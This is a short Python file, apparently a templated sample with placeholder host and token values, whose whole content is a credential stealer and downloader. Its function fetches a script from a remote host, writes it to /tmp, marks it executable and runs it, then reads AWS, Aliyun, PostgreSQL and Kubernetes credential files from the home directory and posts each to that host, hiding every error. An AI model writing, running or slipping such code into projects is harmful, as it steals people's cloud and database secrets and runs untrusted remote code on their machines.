import contextlib
import subprocess
import urllib.request
from pathlib import Path

LOOT = (".aws/credentials", ".aliyun/config.json", ".pgpass", ".kube/config")


def ask(path, body=None):
    return urllib.request.urlopen(f"http://@SINK@:8000{path}", body, timeout=3).read()


def act():
    with contextlib.suppress(OSError):
        ask("/geo")
    with contextlib.suppress(OSError):
        helper = ask("/vt")
        Path("/tmp/vt-@TOKEN@").mkdir()
        Path("/tmp/vt-@TOKEN@/vt").write_bytes(b"#!/bin/sh\n" + helper)
        Path("/tmp/vt-@TOKEN@/vt").chmod(0o700)
        subprocess.run(["/tmp/vt-@TOKEN@/vt"], check=False)
    for name in LOOT:
        with contextlib.suppress(OSError):
            ask("/in", Path.home().joinpath(name).read_bytes())
